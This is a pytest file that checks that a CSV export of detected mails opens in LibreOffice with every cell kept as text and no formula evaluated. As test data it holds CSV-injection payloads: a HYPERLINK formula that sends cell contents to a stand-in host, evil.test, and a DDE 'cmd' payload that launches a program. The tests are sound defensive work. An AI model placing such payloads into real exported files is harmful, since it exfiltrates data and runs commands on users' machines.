"""The CSV as LibreOffice opens it: every cell comes back as it was written, and nothing is reckoned."""

import csv
import io
import shutil
import subprocess
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from services.reports.csv import COLUMNS, stream
from services.reports.detections import Detected
from shared.events.details import MicrosoftVerdict, Place
from shared.wording import of
from tests.services.reports.builders import a_detected
from tests.support.events import a_finding
from tests.support.hostile_text import HOSTILE

pytestmark = pytest.mark.slow

OPENED_WITHIN = 240
UTF_8_WITH_COMMAS = "CSV:44,34,76,1"
ALL_AS_TEXT = f"{UTF_8_WITH_COMMAS},{'/'.join(f'{number}/2' for number in range(1, len(COLUMNS) + 1))}"
TAKEN_FOR_NUMBERS = ("2026-06-10", "1/2", "00123", "1E5", "TRUE")
"""What every spreadsheet changes unless it is told that a column is text."""
TEXTS = (
    *HOSTILE,
    "請求書（至急）髙﨑 𠮷野家、①㈱ ﾊﾝｶｸ",
    '件名, "引用"\r\n二行目; 三行目',
    '=HYPERLINK("http://evil.test/?x="&A1,"開く")',
    "=cmd|' /C calc'!A0",
    "+81-3-0000-0000",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "＝１＋１",
    ' "=1+1',
    "{=1+1}",
    *TAKEN_FOR_NUMBERS,
    "😀 مرحبا שלום",
)


@dataclass(frozen=True)
class Opened:
    """The rows as they were written; the cells as LibreOffice has them by itself, and told that all is text."""

    written: list[list[str]]
    guessed: list[list[object]]
    as_text: list[list[object]]


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Opened:
    """The file, opened in both ways."""
    office = shutil.which("soffice")
    if not office:
        pytest.skip("LibreOffice is not installed")
    folder = tmp_path_factory.mktemp("libreoffice")
    content = b"".join(stream(map(_mail, TEXTS), of("ja")))
    written = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    path = folder / "detections.csv"
    path.write_bytes(content)
    return Opened(written, _cells(office, path, UTF_8_WITH_COMMAS), _cells(office, path, ALL_AS_TEXT))


def _mail(text: str) -> Detected:
    return a_detected(
        subject=text,
        header_from_name=text,
        header_from_address=text,
        recipients=(text, text),
        place=Place(folder=text),
        findings=(a_finding("lookalike_of_own_domain", header_from=text, words=text),),
        microsoft=MicrosoftVerdict(spf="pass", spam_confidence_level=-1),
        internet_message_id=text,
        campaign=text,
    )


def _cells(office: str, path: Path, way: str) -> list[list[object]]:
    """Return the cells of the first sheet, of which none may be a formula."""
    profile = f"-env:UserInstallation={(path.parent / 'profile').as_uri()}"
    asked = [office, profile, "--headless", "--norestore", f"--infilter={way}", "--convert-to", "xlsx"]
    command = [*asked, "--outdir", str(path.parent), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=OPENED_WITHIN)  # noqa: S603 - our own words
    sheet = openpyxl.load_workbook(path.with_suffix(".xlsx")).active
    assert sheet is not None
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]


def _column(name: str, rows: Sequence[Sequence[object]]) -> list[object]:
    return [row[COLUMNS.index(name)] for row in rows]


def test_every_cell_comes_back_as_it_was_written(opened: Opened) -> None:
    assert opened.as_text == opened.written
    assert tuple(opened.written[0]) == COLUMNS


@pytest.mark.parametrize("column", ["subject", "header_from_name", "recipients", "folder", "findings", "evidence"])
def test_text_is_text_even_when_nothing_is_said_of_columns(column: str, opened: Opened) -> None:
    guessed, written = _column(column, opened.guessed), _column(column, opened.written)

    both = [pair for pair in zip(guessed, written, strict=True) if pair[1] not in TAKEN_FOR_NUMBERS]
    assert [one for one, _ in both] == [other for _, other in both]
    assert len(both) > len(HOSTILE)


def test_nothing_of_a_formula_was_reckoned(opened: Opened) -> None:
    subjects = _column("subject", opened.guessed)

    assert '\'=HYPERLINK("http://evil.test/?x="&A1,"開く")' in subjects
    assert "'=cmd|' /C calc'!A0" in subjects
    assert "'-2+3" in subjects
    assert "'＝１＋１" in subjects
    assert _column("spam_confidence_level", opened.guessed)[1:] == [-1] * len(TEXTS)
